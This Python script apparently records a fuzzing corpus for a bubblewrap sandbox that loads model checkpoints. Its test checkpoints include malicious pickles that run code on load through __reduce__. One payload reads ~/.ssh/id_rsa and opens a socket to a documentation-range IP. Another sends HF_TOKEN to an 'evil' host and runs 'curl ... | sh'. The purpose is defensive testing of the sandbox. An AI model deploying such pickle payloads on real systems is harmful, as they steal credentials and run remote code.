"""Makes the corpus: `python -m bench.fuzz.record [NAME...]` evaluates small checkpoints in the real bubblewrap jail
and keeps what it said. What names the machine is left out; nothing else is."""

from __future__ import annotations

import io
import json
import pickle
import sys
import tempfile
import time
from collections import OrderedDict
from collections.abc import Callable
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import torch

from bench.fuzz import frames
from bench.fuzz.conversation import DETONATED, LOAD, RETURNED, SALVAGE, Conversation, evaluate
from bench.fuzz.corpus import FOLDER
from bench.fuzz.targets import packed
from sandbox import controller
from sandbox.bundle import find
from sandbox.facts import Limit
from sandbox.jail import family
from sandbox.jail.interface import Jail, JailSpec, RunningJail
from sandbox.order import limits_for
from sandbox.policy import load
from sandbox.release import Release
from sandbox.request import Request
from sandbox.stage import stage
from sandbox.untrusted.wire import Kind

_JAIL = "bubblewrap"
_CUT = 200  # bytes off the end of a checkpoint that is to fail


class _Calls:
    """Pickles as a call. Harmless in effect, and only ever loaded in a jail."""

    def __init__(self, function: object, *arguments: object) -> None:
        self._call = function, arguments

    def __reduce__(self) -> Any:
        return self._call


_ATTACK = """
import os, socket
os.system("id")
try:
    socket.create_connection(("203.0.113.7", 4444), 1)
except OSError as error:
    print("\\x1b[2J", error)
try:
    open(os.path.expanduser("~/.ssh/id_rsa")).read()
except OSError:
    pass
"""

_DETONATION = """
import os, socket
peer = socket.create_connection(("203.0.113.7", 80), 1)
body = os.environ["HF_TOKEN"].encode()[:40]
peer.sendall(b"POST /up HTTP/1.1\\r\\nHost: evil\\r\\nContent-Length: 40\\r\\n\\r\\n" + body)
peer.recv(100)
open("/tmp/stage2", "w").write("#!/bin/sh\\n")
os.system("curl -s http://203.0.113.9/x | sh")
"""


def _saved(value: object, **options: Any) -> bytes:
    raw = io.BytesIO()
    torch.save(value, raw, **options)
    return raw.getvalue()


def _weights() -> dict[str, object]:
    whole = torch.arange(12, dtype=torch.float32).reshape(3, 4)
    turned = {"a.weight": whole, "a.turned": whole.t(), "b": torch.tensor([1, -2], dtype=torch.int64)}
    return {**turned, "half": torch.ones(2, dtype=torch.bfloat16), "epoch": 3, "rates": [0.1, 0.2]}


_CHECKPOINTS: dict[str, tuple[Callable[[], bytes], int]] = {
    "clean": (lambda: _saved(_weights()), LOAD),
    "static": (lambda: _saved(OrderedDict(_weights())), 0),
    "legacy": (lambda: _saved(_weights(), _use_new_zipfile_serialization=False), LOAD),
    "pickle": (lambda: pickle.dumps({"w": [1.5, 2], "name": "\u202eevil"}, protocol=4), LOAD),
    "malicious": (lambda: pickle.dumps({"hook": _Calls(exec, _ATTACK, {})}, protocol=4), LOAD | SALVAGE),
    "detonated": (
        lambda: pickle.dumps({"hook": _Calls(exec, _DETONATION, {})}, protocol=4),
        LOAD | SALVAGE | DETONATED,
    ),
    "returned": (
        lambda: _saved({"w": torch.ones(2), "made": _Calls(torch.full, (3,), 7.0)}),
        LOAD | RETURNED | SALVAGE,
    ),
    "failed": (lambda: pickle.dumps({"hook": _Calls(int, "not a number")}, protocol=2), LOAD | SALVAGE),
    "cut": (lambda: _saved(_weights())[:-_CUT], LOAD),
    "absent": (lambda: b"\x80\x02cnosuch.module\nThing\n)\x81}b.and more", LOAD | SALVAGE),
    "sparse": (lambda: _saved({"left": torch.ones(2, device="meta"), "split": torch.eye(2).to_sparse()}), LOAD),
    "unknown": (lambda: b"neither a pickle nor an archive", LOAD),
}


class _Heard(RunningJail):
    """Passes everything on and keeps what the jail said."""

    def __init__(self, running: RunningJail, kept: bytearray) -> None:
        self._running, self._kept = running, kept

    def write(self, data: bytes) -> None:
        self._running.write(data)

    def stop(self) -> str:
        return self._running.stop()

    def limits(self) -> tuple[Limit, ...]:
        return self._running.limits()

    def read(self, timeout: float) -> bytes:
        piece = self._running.read(timeout)
        self._kept += piece
        return piece


class _Run(controller._Run):
    """The real one, listened to."""

    kept: bytearray

    def report(self, held: ExitStack, started: float) -> Any:
        start, self.kept = self.jail.start, bytearray()

        def heard(spec: JailSpec) -> RunningJail:
            return _Heard(start(spec), self.kept)

        self.jail.start = heard  # type: ignore[method-assign]
        return super().report(held, started)


def _recorded(raw: bytes, flags: int, folder: Path) -> Conversation:
    path = folder / "model.pt"
    path.write_bytes(raw)
    path.chmod(0o644)
    request = Request(path, write=False, static=not flags & LOAD, allow_returned=bool(flags & RETURNED))
    policy, bundle = load("detonate" if flags & DETONATED else "evaluate", find().configs), find()
    jail: Jail
    jail, ready = family.choose(_JAIL, None, lambda _line: None)
    with ExitStack() as held:
        staged = held.enter_context(stage(path))
        staged.start_digest()
        limits = limits_for(policy, staged, None)
        release = Release(None, folder / "out.safetensors", request.choices(), salvage=False)
        run = _Run(request, policy, bundle, staged, jail, ready, limits, release)
        run.report(held, time.monotonic())
    return Conversation(flags, raw, _impersonal(bytes(run.kept)))


def _impersonal(stream: bytes) -> bytes:
    """Without the machine's kernel release."""
    said, rest = frames.split(stream)
    for at, (kind, payload) in enumerate(said):
        if kind == Kind.HELLO:
            said[at] = (kind, json.dumps(json.loads(payload) | {"kernel": "Linux 6.1.0"}).encode("ascii"))
    return frames.join(said, rest)


def _keep(target: str, name: str, raw: bytes) -> None:
    path = FOLDER / target / f"{name}.bin"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(raw)
    print(path.relative_to(FOLDER), len(raw))


def _keep_outputs(name: str, conversation: Conversation, folder: Path) -> None:
    """What `verify` and the header's reader get: made from the conversation, as the host makes it."""
    report, _ = evaluate(conversation, folder)
    if report.outputs:
        weights = (folder / "out.safetensors").read_bytes()
        _keep("header", name, weights)
        _keep("verify", name, packed(conversation.model, weights, (folder / "out.manifest.json").read_bytes()))


def main() -> None:
    """Of all checkpoints, or of those named."""
    for name in sys.argv[1:] or _CHECKPOINTS:
        make, flags = _CHECKPOINTS[name]
        with tempfile.TemporaryDirectory(prefix="fuzz-") as place:
            Path(place).chmod(0o755)
            conversation = _recorded(make(), flags, Path(place))
            _keep("conversation", name, conversation.pack())
            with tempfile.TemporaryDirectory(prefix="fuzz-") as other:
                _keep_outputs(name, conversation, Path(other))
    engine = b"".join(bytes([stream, 0, 0, 0]) + len(text).to_bytes(4, "big") + text for stream, text in _ENGINE)
    _keep("demultiplexer", "both", engine)


_ENGINE = ((1, b"a frame"), (2, b"a word on stderr\n"), (1, b""), (1, bytes(300)), (2, b"\x1b[2J" * 40))

if __name__ == "__main__":
    main()
